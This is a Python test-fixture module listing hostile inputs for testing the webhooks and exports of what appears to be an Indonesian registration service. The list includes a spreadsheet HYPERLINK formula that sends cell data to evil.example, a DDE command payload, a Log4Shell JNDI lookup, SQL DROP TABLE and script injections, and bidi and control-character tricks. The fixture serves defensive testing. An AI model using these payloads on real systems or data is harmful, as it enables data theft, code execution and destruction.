"""What an attacker or a careless phone keyboard sends: thrown at every step, both webhooks and the
exports by the hostile-input tests."""

from __future__ import annotations

import re
import unicodedata

__all__ = ["HOSTILE", "NIK_SPELLINGS", "unclean"]

NIK_DIGITS = "3375012504880014"
NIK_SPELLINGS = (
    "3375/0125/0488/0014",
    "3375_0125_0488_0014",
    "3375 0125 0488 0014",
    "3375.0125.0488.0014",
    "3375-0125-0488-0014",
    "3375\u00a00125\u00a00488\u00a00014",
    "3375\u202f0125 0488/0014",
    NIK_DIGITS,
)

HOSTILE: tuple[str, ...] = (
    # control characters (C0, DEL, C1), alone and inside words
    "Jl. Batik\x1b[31m 3",
    "Siti\x00Aminah",
    "Jl.\x07 Mawar\x08\x7f 2",
    "Gg. Melati\x85\x9b 7",
    "baris satu\r\nbaris dua\rbaris tiga\x0bempat\x0clima",
    # bidi embeddings, overrides and isolates
    "Siti \u202eanimA\u202c",
    "\u2066Jl. Kenanga\u2069 \u202a5\u202c",
    # zero-width characters and the byte-order mark
    "Si\u200bti A\u200dmi\u200cnah",
    "\ufeffJl. Sampangan\u2060 Gg. 3",
    # formulas, as a spreadsheet would read them
    '=HYPERLINK("http://evil.example/?d="&A2,"KTP")',
    "+62 812 3456 7890",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    # far too long
    "a" * 5000,
    "kerja bakti " * 420,
    # format strings and injections
    "{0}{programme}{__class__}",
    "%s %d %n %x",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE registrations; --",
    "<script>alert(1)</script>",
    # lone surrogates (a broken emoji)
    "\ud83dJl. Batik 3",
    "Siti\udfffAminah",
    # a NIK in every spelling, alone and in a sentence
    *NIK_SPELLINGS,
    *(f"nik sy {nik} ya" for nik in NIK_SPELLINGS),
)

_UNCLEAN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]"
)


def unclean(text: str) -> bool:
    """Holds something the inbound door removes, or is not in NFC."""
    return bool(_UNCLEAN.search(text)) or unicodedata.normalize("NFC", text) != text
